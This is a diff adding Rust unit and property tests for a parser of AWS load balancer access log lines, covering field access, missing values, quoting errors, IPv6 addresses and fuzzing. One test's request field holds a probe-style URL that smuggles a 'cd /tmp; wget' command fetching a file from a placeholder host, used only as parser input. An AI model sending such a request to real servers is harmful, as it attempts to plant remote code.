@@ -1,0 +1,328 @@
+//! Field rules of the parser, one behaviour per test.
+
+use super::*;
+
+/// A complete 34-field line (2026 layout) built from named parts so tests can vary one field.
+fn line_with(replace: &[(Field, &str)]) -> String {
+    let mut fields: Vec<String> = [
+        "https",
+        "2026-11-27T09:30:05.123456Z",
+        "app/shop-web/50dc6c495c0c9188",
+        "203.0.113.9:51234",
+        "10.0.1.23:3000",
+        "0.000",
+        "0.003",
+        "0.000",
+        "304",
+        "304",
+        "723",
+        "679",
+        "\"GET https://shop.example.com:443/api/cart?x=1 HTTP/1.1\"",
+        "\"Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0\"",
+        "TLS_AES_128_GCM_SHA256",
+        "TLSv1.3",
+        "arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/shop-web-tg/73e2d6bc24d8a067",
+        "\"Root=1-6746e5a5-0123456789abcdef01234567\"",
+        "\"shop.example.com\"",
+        "\"session-reused\"",
+        "10",
+        "2026-11-27T09:30:05.120000Z",
+        "\"forward\"",
+        "\"-\"",
+        "\"-\"",
+        "\"10.0.1.23:3000\"",
+        "\"304\"",
+        "\"-\"",
+        "\"-\"",
+        "TID_0123456789abcdef0123456789abcdef",
+        "\"-\"",
+        "\"-\"",
+        "\"-\"",
+        "10.0.1.5",
+    ]
+    .iter()
+    .map(|s| s.to_string())
+    .collect();
+    for (field, value) in replace {
+        fields[field.index()] = value.to_string();
+    }
+    fields.join(" ")
+}
+
+fn parse(line: &str) -> Result<Record<'_>, ParseError> {
+    parse_line(line.as_bytes())
+}
+
+#[test]
+fn full_line_gives_every_field_by_name() {
+    let line = line_with(&[]);
+    let r = parse(&line).unwrap();
+    assert_eq!(r.field_count(), 34);
+    assert_eq!(r.kind(), b"https");
+    assert_eq!(r.elb(), b"app/shop-web/50dc6c495c0c9188");
+    assert_eq!(r.client(), Some(&b"203.0.113.9:51234"[..]));
+    assert_eq!(r.target(), Some(&b"10.0.1.23:3000"[..]));
+    assert_eq!(r.request_processing_time_ms(), Some(0));
+    assert_eq!(r.target_processing_time_ms(), Some(3));
+    assert_eq!(r.response_processing_time_ms(), Some(0));
+    assert_eq!(r.elb_status_code(), Some(304));
+    assert_eq!(r.target_status_code(), Some(304));
+    assert_eq!(r.received_bytes(), Some(723));
+    assert_eq!(r.sent_bytes(), Some(679));
+    assert_eq!(r.request(), Some(&b"GET https://shop.example.com:443/api/cart?x=1 HTTP/1.1"[..]));
+    assert_eq!(r.user_agent(), Some(&b"Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"[..]));
+    assert_eq!(r.ssl_cipher(), Some(&b"TLS_AES_128_GCM_SHA256"[..]));
+    assert_eq!(r.ssl_protocol(), Some(&b"TLSv1.3"[..]));
+    assert!(r.target_group_arn().unwrap().ends_with(b"targetgroup/shop-web-tg/73e2d6bc24d8a067"));
+    assert_eq!(r.trace_id(), Some(&b"Root=1-6746e5a5-0123456789abcdef01234567"[..]));
+    assert_eq!(r.domain_name(), Some(&b"shop.example.com"[..]));
+    assert_eq!(r.chosen_cert_arn(), Some(&b"session-reused"[..]));
+    assert_eq!(r.matched_rule_priority(), Some(10));
+    assert_eq!(
+        r.request_creation_time().unwrap().micros() + 3_456,
+        r.time().micros(),
+        "time is 3.456 ms after request_creation_time"
+    );
+    assert_eq!(r.actions_executed(), Some(&b"forward"[..]));
+    assert_eq!(r.redirect_url(), None);
+    assert_eq!(r.error_reason(), None);
+    assert_eq!(r.target_port_list(), Some(&b"10.0.1.23:3000"[..]));
+    assert_eq!(r.target_status_code_list(), Some(&b"304"[..]));
+    assert_eq!(r.classification(), None);
+    assert_eq!(r.classification_reason(), None);
+    assert_eq!(r.conn_trace_id(), Some(&b"TID_0123456789abcdef0123456789abcdef"[..]));
+    assert_eq!(r.transformed_host(), None);
+    assert_eq!(r.transformed_uri(), None);
+    assert_eq!(r.request_transform_status(), None);
+    assert_eq!(r.ip_address(), Some(&b"10.0.1.5"[..]));
+}
+
+#[test]
+fn dash_and_minus_one_are_none() {
+    let line = line_with(&[
+        (Field::Target, "-"),
+        (Field::RequestProcessingTime, "-1"),
+        (Field::TargetProcessingTime, "-1"),
+        (Field::ResponseProcessingTime, "-1"),
+        (Field::ElbStatusCode, "502"),
+        (Field::TargetStatusCode, "-"),
+        (Field::MatchedRulePriority, "-1"),
+        (Field::SslCipher, "-"),
+    ]);
+    let r = parse(&line).unwrap();
+    assert_eq!(r.target(), None);
+    assert_eq!(r.request_processing_time_ms(), None);
+    assert_eq!(r.target_processing_time_ms(), None);
+    assert_eq!(r.response_processing_time_ms(), None);
+    assert_eq!(r.elb_status_code(), Some(502));
+    assert_eq!(r.target_status_code(), None);
+    assert_eq!(r.matched_rule_priority(), None);
+    assert_eq!(r.ssl_cipher(), None);
+    assert_eq!(r.get_raw(Field::SslCipher), Some(&b"-"[..]));
+}
+
+#[test]
+fn elb_status_dash_is_tolerated() {
+    let line = line_with(&[(Field::ElbStatusCode, "-")]);
+    assert_eq!(parse(&line).unwrap().elb_status_code(), None);
+}
+
+#[test]
+fn processing_times_are_whole_milliseconds() {
+    for (text, ms) in
+        [("0.000", 0), ("4.205", 4205), ("12", 12_000), ("0.5", 500), ("1.2345", 1234)]
+    {
+        let line = line_with(&[(Field::TargetProcessingTime, text)]);
+        assert_eq!(parse(&line).unwrap().target_processing_time_ms(), Some(ms), "{text}");
+    }
+}
+
+#[test]
+fn unreadable_numbers_make_the_line_malformed() {
+    for (field, value) in [
+        (Field::RequestProcessingTime, "abc"),
+        (Field::TargetProcessingTime, "-2"),
+        (Field::ResponseProcessingTime, "1.x"),
+        (Field::ResponseProcessingTime, "99999999"),
+        (Field::ElbStatusCode, "50"),
+        (Field::TargetStatusCode, "5o2"),
+        (Field::Time, "yesterday"),
+    ] {
+        let line = line_with(&[(field, value)]);
+        assert_eq!(
+            parse(&line).unwrap_err(),
+            ParseError::InvalidValue { field },
+            "{field}={value}"
+        );
+    }
+}
+
+#[test]
+fn lines_from_18_to_34_fields_parse_and_longer_tails_are_ignored() {
+    let full = line_with(&[]);
+    let fields: Vec<&str> = {
+        // split on the separators the tokenizer found, via the parser itself
+        let r = parse(&full).unwrap();
+        Field::ALL
+            .iter()
+            .map(|f| r.get_raw(*f).unwrap())
+            .map(|b| std::str::from_utf8(b).unwrap())
+            .collect()
+    };
+    assert_eq!(fields.len(), 34);
+    // Rebuild prefixes of the full line by cutting at field boundaries.
+    let mut cut_points = vec![];
+    let bytes = full.as_bytes();
+    let mut in_quote = false;
+    for (i, &b) in bytes.iter().enumerate() {
+        match b {
+            b'"' => in_quote = !in_quote,
+            b' ' if !in_quote => cut_points.push(i),
+            _ => {}
+        }
+    }
+    for keep in MIN_FIELDS..34 {
+        let prefix = &full[..cut_points[keep - 1]];
+        let r = parse(prefix).unwrap_or_else(|e| panic!("{keep} fields: {e}"));
+        assert_eq!(r.field_count(), keep);
+        assert_eq!(r.get_raw(Field::ALL[keep - 1]).is_some(), true);
+        if keep < 34 {
+            assert_eq!(r.get_raw(Field::ALL[keep]), None);
+        }
+    }
+    let short = &full[..cut_points[MIN_FIELDS - 2]];
+    assert_eq!(parse(short).unwrap_err(), ParseError::TooFewFields { found: MIN_FIELDS - 1 });
+
+    let longer = format!("{full} \"-\" \"-\" something-new \"with spaces\"");
+    let r = parse(&longer).unwrap();
+    assert_eq!(r.field_count(), 34);
+    assert_eq!(r.ip_address(), Some(&b"10.0.1.5"[..]));
+}
+
+#[test]
+fn list_fields_may_be_bare_or_quoted() {
+    let bare =
+        line_with(&[(Field::TargetPortList, "10.0.0.1:80"), (Field::TargetStatusCodeList, "200")]);
+    let r = parse(&bare).unwrap();
+    assert_eq!(r.target_port_list(), Some(&b"10.0.0.1:80"[..]));
+    assert_eq!(r.target_status_code_list(), Some(&b"200"[..]));
+    let quoted_many = line_with(&[
+        (Field::TargetPortList, "\"10.0.0.1:80 10.0.0.2:80\""),
+        (Field::TargetStatusCodeList, "\"502 200\""),
+    ]);
+    let r = parse(&quoted_many).unwrap();
+    assert_eq!(r.target_port_list(), Some(&b"10.0.0.1:80 10.0.0.2:80"[..]));
+}
+
+#[test]
+fn ipv6_addresses_keep_their_colons() {
+    let line = line_with(&[
+        (Field::Client, "2a02:a33c:4538:1:bcf4:5264:e01c:f215:50718"),
+        (Field::Target, "fd6d:6bbc:c529:6::face:ed83:f46:80"),
+    ]);
+    let r = parse(&line).unwrap();
+    let (host, port) = crate::split_host_port(r.client().unwrap()).unwrap();
+    assert_eq!((host, port), (&b"2a02:a33c:4538:1:bcf4:5264:e01c:f215"[..], 50718));
+    let (host, port) = crate::split_host_port(r.target().unwrap()).unwrap();
+    assert_eq!((host, port), (&b"fd6d:6bbc:c529:6::face:ed83:f46"[..], 80));
+}
+
+#[test]
+fn escaped_quotes_and_spaces_stay_inside_quoted_fields() {
+    let line = line_with(&[
+        (Field::UserAgent, r#""Mozilla \"quoted\" agent \\ end""#),
+        (Field::Request, "\"GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/x HTTP/1.1\""),
+    ]);
+    let r = parse(&line).unwrap();
+    assert_eq!(r.user_agent(), Some(&br#"Mozilla \"quoted\" agent \\ end"#[..]));
+    assert_eq!(
+        r.request(),
+        Some(&b"GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/x HTTP/1.1"[..])
+    );
+    assert_eq!(r.ssl_cipher(), Some(&b"TLS_AES_128_GCM_SHA256"[..]), "fields after stay aligned");
+}
+
+#[test]
+fn malformed_request_variants_parse() {
+    for request in ["\"- - -\"", "\"- http://host:80- -\"", "\"- http://host:80-/ \"", "\"\""] {
+        let line = line_with(&[(Field::Request, request)]);
+        assert!(parse(&line).is_ok(), "{request}");
+    }
+}
+
+#[test]
+fn quoting_errors_are_reported_with_the_field() {
+    let glued = line_with(&[(Field::ChosenCertArn, "\"-\"1")]);
+    assert_eq!(
+        parse(&glued).unwrap_err(),
+        ParseError::MissingSeparator { field: Field::ChosenCertArn }
+    );
+
+    let unterminated = line_with(&[]).replacen("\"Mozilla", "\"Mozilla \\\"", 1);
+    let unterminated = &unterminated[..unterminated.find("Firefox").unwrap()];
+    assert!(matches!(parse(unterminated).unwrap_err(), ParseError::UnterminatedQuote { .. }));
+
+    let bare_request = line_with(&[(Field::Request, "GET")]);
+    assert_eq!(
+        parse(&bare_request).unwrap_err(),
+        ParseError::WrongQuoting { field: Field::Request, expected_quoted: true }
+    );
+
+    let quoted_status = line_with(&[(Field::ElbStatusCode, "\"200\"")]);
+    assert_eq!(
+        parse(&quoted_status).unwrap_err(),
+        ParseError::WrongQuoting { field: Field::ElbStatusCode, expected_quoted: false }
+    );
+
+    let stray = line_with(&[(Field::SslCipher, "ab\"c")]);
+    assert_eq!(parse(&stray).unwrap_err(), ParseError::StrayQuote { field: Field::SslCipher });
+
+    let double_space = line_with(&[]).replacen(" 0.003 ", "  0.003 ", 1);
+    assert!(matches!(parse(&double_space).unwrap_err(), ParseError::EmptyField { .. }));
+    let trailing_space = format!("{} ", &line_with(&[]));
+    assert!(
+        parse(&trailing_space).is_ok(),
+        "a trailing space after field 34 is beyond what we read"
+    );
+}
+
+#[test]
+fn carriage_return_is_ignored() {
+    let line = format!("{}\r", line_with(&[]));
+    assert_eq!(parse(&line).unwrap().ip_address(), Some(&b"10.0.1.5"[..]));
+}
+
+#[test]
+fn blank_and_junk_lines_are_errors_not_panics() {
+    for junk in [
+        "",
+        " ",
+        "\"",
+        "\\",
+        "http",
+        "\" \" \"",
+        "2024-11-29T13:45:24.599544Z 172.31.43.26 58206 80 - - - \"-\" - - - TID_16132ed0b4112148",
+    ] {
+        assert!(parse(junk).is_err(), "{junk:?}");
+    }
+}
+
+proptest::proptest! {
+    #[test]
+    fn arbitrary_bytes_never_panic(bytes in proptest::collection::vec(proptest::num::u8::ANY, 0..600)) {
+        let _ = parse_line(&bytes);
+    }
+
+    #[test]
+    fn mutated_valid_lines_never_panic(pos in 0usize..400, byte in proptest::num::u8::ANY) {
+        let mut line = line_with(&[]).into_bytes();
+        let pos = pos % line.len();
+        line[pos] = byte;
+        if let Ok(record) = parse_line(&line) {
+            for field in Field::ALL {
+                let _ = record.get(field);
+            }
+            let _ = record.request_creation_time();
+        }
+    }
+}
